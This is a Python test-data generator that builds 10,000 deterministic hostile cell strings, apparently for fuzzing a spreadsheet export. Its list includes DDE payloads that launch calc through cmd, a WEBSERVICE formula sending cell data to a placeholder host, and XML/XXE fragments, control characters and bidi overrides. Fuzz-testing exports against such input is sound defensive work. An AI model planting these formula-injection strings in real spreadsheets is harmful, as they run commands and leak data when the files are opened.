"""Ten thousand texts that a spreadsheet might take for something else than text; the same ones every time."""

from __future__ import annotations

import random

BEGINNINGS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\uff1d", "'=", "'", '"', ";", "|",
    "%", "#", "=cmd|' /C calc'!A", "@SUM(1)*cmd|' /C calc'!A", "+DDE(\"cmd\";\"/C calc\";\"a\")",
    '=HYPERLINK("http://x";"y")', '=WEBSERVICE("http://x/"&A1)', "=IMPORTXML(", "=1+1", "-2+3", "{=1+1}",
    "=Data[Husleje]", "Data[Husleje]", "_x0041_", "_x003D_1+1", "_x000D_", "_x005F_x0041_", "_x", "_X0041_",
    "_xD800_", "&#61;", "&amp;", "&lt;f&gt;", "<f>1+1</f>", "</t></is></c>", "]]>", "<![CDATA[", "<!--",
    "<?xml?>", "<!DOCTYPE x>", "&xxe;", "&", "<", ">", "0", "00", "007", "1e5", "1E-3", "0x1F", "12,5", "12.5",
    "1.234,56 kr.", "50 %", "½", "1/2", "31-12", "TRUE", "FALSK", "#N/A", "#REF!", "#DIV/0!", "NULL", "NaN",
    "INF", "–", "\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1f", "\x7f", "\x80", "\x85", "\x9f", "\ud800",
    "\udc00", "\udfff\ud800", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\u2028", "\u2029", "\u202e",
    "\u202d", "\u2066", "\u200b", "\u200f", "\u0301", "e\u0301", "\U0001f3e0", "\u05d0\u05d1", "æøå", "ß", "İ",
    "line\nbreak", "line\r\nbreak", "line\rbreak", "tab\ttab", "  ", "*", "?", "~", "[", "]", "#'",
    "'[x.xlsx]A'!1",
)  # fmt: skip
"""What does harm, or might, at the beginning of a cell."""

_LONG = 40
"""So many of the texts are longer than a cell can hold."""


def hostile_texts(count: int, *, seed: int = 5) -> list[str]:
    """``count`` texts, no two alike after what a workbook cannot hold is left out.

    Each begins with one of :data:`BEGINNINGS`; all of them occur alone as numbers do, before words and after others.
    """
    chance = random.Random(seed)
    texts = []
    for number in range(count):
        begin = BEGINNINGS[number % len(BEGINNINGS)]
        more = "".join(chance.choices(BEGINNINGS, k=chance.randrange(3)))
        text = f"{begin}{more}{_letters(number)}" if number % 3 else f"{begin}{number:05d}"
        texts.append(text)
    for number in range(0, count, max(1, count // _LONG)):
        texts[number] = (texts[number] * 40_000)[:40_000]
    return texts


def _letters(number: int) -> str:
    word = ""
    while number:
        number, letter = divmod(number, 26)
        word += chr(97 + letter)
    return word or "a"
